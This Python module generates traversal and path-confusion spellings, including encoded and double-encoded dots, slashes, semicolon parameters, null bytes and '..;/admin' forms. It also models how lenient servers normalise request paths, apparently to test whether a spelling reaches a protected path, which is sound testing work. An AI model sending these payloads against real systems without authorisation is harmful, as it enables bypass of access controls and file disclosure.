"""Other ways to write a path, as attackers do, and how lenient servers read what they are sent."""

import itertools
import re

DOTS = [
    "..", "%2e%2e", "%2E%2E", ".%2e", "%2E.", "..;", "..;a=b", "..%3b", "..%3B", "%2e%2e;", "%2e%2e%3b", "%252e%252e", "%25%32%65%25%32%65", "%%32%65.",
    "..%20", "..%09", "..%00", "..%0a", "...", "....", "..%2e", "%c0%ae%c0%ae", "%e0%80%ae.", "%u002e%u002e", "..\\", "..%5c.", "..?", "..#", "..~", ".\t.",
]
SEPARATORS = [
    "/", "//", "/./", "/.//", "/%2e/", "/;/", "/;a=b/", "%2f", "%2F", "/%2f", "%2f/", "\\", "\\\\", "/\\", "%5c", "%5C", "%255c", "%252f", "%252F",
    "%25%32%66", "%%32%66", "%c0%af", "%u2215", "%ef%bc%8f",
]
SUFFIXES = [
    "/", "//", "/.", "/./", "/%2e", "/x/..", "/x/%2e%2e", "/x/../", "/..;/admin", "/../admin", "/%2e%2e/admin", ";", ";a=b", ";/", ";/x", "%3b", "%3Ba=b", "%3b/x",
    ".", "..", "%2e", "...", "%20", "%20%20", " ", "\t", "%09", "%00", "%00.html", "%0a", "%0d%0a", "%7f", "#", "#x", "%23", "%23x", "?", "?x", "??", "?/../x",
    "%3f", "%3Fx", "%253f", ".json", ".", "~", "*", "%", "%2", "%zz", "%ff", "\x80", "\xa0", "%c2%a0", "/%", "%2f", "%2F.", "/%2f", "\\", "\\.", "%5c", "/\\", "%255c",
    "/*", "/**", "//x", "/;x/y", "::$DATA", "%u0000", ":80", "@", "&x", ",", "|", "%7c", "`", "^", "{}", "<>", '"',
]


def encoded(character, case, depth):
    code = format(ord(character), "02x")
    code = code.upper() if case == "upper" else code
    return "%" + "25" * (depth - 1) + code


def per_character(word):
    """Every choice of letters that are escaped, in both cases; and deeper escapes of each letter and of all."""
    for chosen in itertools.product((False, True), repeat=len(word)):
        for case in ("lower", "upper"):
            yield "/" + "".join(encoded(letter, case, 1) if escape else letter for letter, escape in zip(word, chosen))
    for depth in (2, 3, 4):
        for position in range(len(word)):
            yield "/" + word[:position] + encoded(word[position], "lower", depth) + word[position + 1:]
        yield "/" + "".join(encoded(letter, "upper", depth) for letter in word)
    for position, letter in enumerate(word):
        for form in ("%u{:04x}", "%U{:04X}", "\\u{:04x}", "\\x{:02x}", "&#{};"):
            yield "/" + word[:position] + form.format(ord(letter)) + word[position + 1:]
        code = format(ord(letter), "02x")
        yield "/" + word[:position] + "%25%3" + code[0] + "%3" + code[1] + word[position + 1:]  # each digit of the escape escaped again
        yield "/" + word[:position] + "%%3" + code[0] + code[1] + word[position + 1:]
        yield "/" + word[:position] + chr(0xFF00 + ord(letter) - 0x20).encode().decode("latin-1") + word[position + 1:]  # full-width


def leading(word):
    for start in ["", "//", "///", "/./", "/.//", "/%2e/", "/%2E/./", "/;/", "/;a=b/", "/.;/", "/%2f", "/%2F", "%2f", "/\\", "\\", "/%5c", "\\/", "./", "/%20/", "/%20",
                  "/ ", "/\t", "/%09", "/%00", "/%0d%0a", "/..", "/../", "/../../", "/%2e%2e/", "/..;/", "/..%2f", "/..\\", "/..%5c", "/.../", "/~/", "/*/../", "?/../", "/?/../",
                  "/#/../", "#/../", "/a/b/c/../../../", "/a//../", "/a/..//", "/a/b//../../", "/a/%2e%2e/", "/a%2f../", "/a%2F..%2F", "/a%5c..%5c", "/a\\..\\", "/a;/../",
                  "/a/..;/", "/a/..;b=c/", "/%252e%252e/", "/a/%252e%252e/", "/a/%25252e%25252e%25252f"]:
        yield start + word


def upwards(word, prefixes):
    """Out of another place and into this one."""
    for prefix, dots, separator in itertools.product(prefixes, DOTS, SEPARATORS):
        up = separator + (dots + separator) * prefix.count("/")
        yield prefix + up + word
    for prefix in prefixes:
        # Readers that disagree on one step count different depths.
        for deeper in ("a\\b", "a%5cb", "a%252fb", "a;%2fb", "a%2fb", "a%3b%2fb", "a//b", ";", ";/b", "%3b"):
            for separator in ("/", "%2f", "\\", "%5c", "%252f"):
                for count in (1, 2, 3):
                    yield f"{prefix}/{deeper}" + (separator + "..") * count + separator + word
        for dots in ("..", "%2e%2e"):
            for cut in (";", "%3b", ";a="):
                yield f"{prefix}/{dots}{cut}%2f{prefix[1:]}/{word}"
                yield f"{prefix}/{dots}{cut}%5c{prefix[1:]}/{word}"
                yield f"{prefix}/{dots}{cut}\\{prefix[1:]}/{word}"


def absolute(word, hosts):
    for scheme in ("http", "HTTP", "https", "ftp", "file", "ws", "javascript"):
        yield f"{scheme}://{hosts[0]}/{word}"
    for host in hosts:
        for path in (f"/{word}", f"//{word}", f"/./{word}", f"/public/../{word}", f"/public/%2e%2e/{word}", f"/%61{word[1:]}", f"/public/..;/{word}", f"/public/..%2f{word}",
                     f"\\{word}", f"/\\{word}", f"?/../{word}", f"#/../{word}", f";/{word}", f"%2f{word}", f"/{word}?x", f"/{word}#x", f"/{word}%00"):
            yield f"http://{host}{path}"
    for text in (f"http:/{word}", f"http:///{word}", f"http:{word}", f"//{hosts[0]}/{word}", f"///{hosts[0]}/{word}", f"http://user@{hosts[0]}/{word}", f"http://{hosts[0]}:80/{word}",
                 f"http://{hosts[0]}:/{word}", f"http://{hosts[0]}:99999/{word}", f"http://{hosts[0]} /{word}", f"http://{hosts[0]}%2f/{word}", f"http://%61pi.test/{word}",
                 f"/http://{hosts[0]}/{word}", f"/http://{hosts[0]}/../../../{word}", f"*/{word}", "*", word):
        yield text


def suffixed(word):
    for suffix in SUFFIXES:
        yield f"/{word}{suffix}"


def families(word, prefixes, hosts):
    """name -> spellings"""
    return {
        "per_character": sorted(set(per_character(word))),
        "leading": sorted(set(leading(word))),
        "suffixed": sorted(set(suffixed(word))),
        "absolute": sorted(set(absolute(word, hosts))),
        "upwards": sorted(set(upwards(word, prefixes))),
    }


# --- readers --------------------------------------------------------------------------


def decode(path, times):
    for _ in range(times):
        decoded = re.sub("%([0-9a-fA-F]{2})", lambda match: chr(int(match.group(1), 16)), path)
        if decoded == path:
            break
        path = decoded
    return path


def resolve(path):
    kept = []
    for segment in path.split("/")[1:]:
        if segment == "..":
            kept = kept[:-1]
        elif segment != ".":
            kept.append(segment)
    return "/" + "/".join(kept)


def merge(path):
    return re.sub("/+", "/", path)


def cut(path):
    return re.sub(";[^/]*", "", path)


def readings(target):
    """The paths that servers may take from a request's target: by how often they decode, whether `\\` separates, whether and when parameters
    are cut, and whether slashes are merged first. Bytes as latin-1."""
    path = target.split("?", 1)[0].split("#", 1)[0]
    found = set()
    for times, backslash, parameters, merging in itertools.product((0, 1, 2, 9), (False, True), ("kept", "before", "after"), ("never", "before", "after")):
        read = cut(path) if parameters == "before" else path
        read = decode(read, times).split("\0", 1)[0]
        read = read.replace("\\", "/") if backslash else read
        read = cut(read) if parameters == "after" else read
        read = merge(read) if merging == "before" else read
        read = resolve(read)
        found.add(merge(read) if merging == "after" else read)
    return found


def leads_to(target, word):
    """Whether some reader would take the target for /word or something below it."""
    return any(read == "/" + word or read.startswith(f"/{word}/") for read in readings(target))
